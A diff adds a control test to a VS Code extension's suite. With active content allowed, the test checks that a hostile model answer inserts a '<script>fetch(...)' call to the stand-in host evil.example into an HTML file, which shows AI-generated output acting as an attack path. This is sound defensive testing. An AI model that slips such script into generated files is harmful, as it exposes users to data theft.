@@ -70,4 +70,22 @@ describe('installed VSIX: a hostile model answer', function () {
     await doc.save();
     await vscode.commands.executeCommand('workbench.action.closeAllEditors');
   });
+
+  it('control: with svgCopilot.allowActiveContent on, the same answer lands as the model wrote it', async () => {
+    await config().update('allowActiveContent', true, vscode.ConfigurationTarget.Global);
+    try {
+      const dir = mkdtempSync(join(tmpdir(), 'vsix-hostile-'));
+      const file = join(dir, 'page.html');
+      writeFileSync(file, '<!doctype html>\n<html>\n<body>\n\n</body>\n</html>\n');
+      const doc = await vscode.workspace.openTextDocument(file);
+      const editor = await vscode.window.showTextDocument(doc);
+      editor.selection = new vscode.Selection(3, 0, 3, 0);
+      assert.equal(await vscode.commands.executeCommand<boolean>('svgCopilot.generate', 'a blue ball'), true);
+      assert.match(doc.getText(), /<script>fetch\('https:\/\/evil\.example/, 'the check above could not have seen a script');
+      await doc.save();
+      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    } finally {
+      await config().update('allowActiveContent', undefined, vscode.ConfigurationTarget.Global);
+    }
+  });
 });
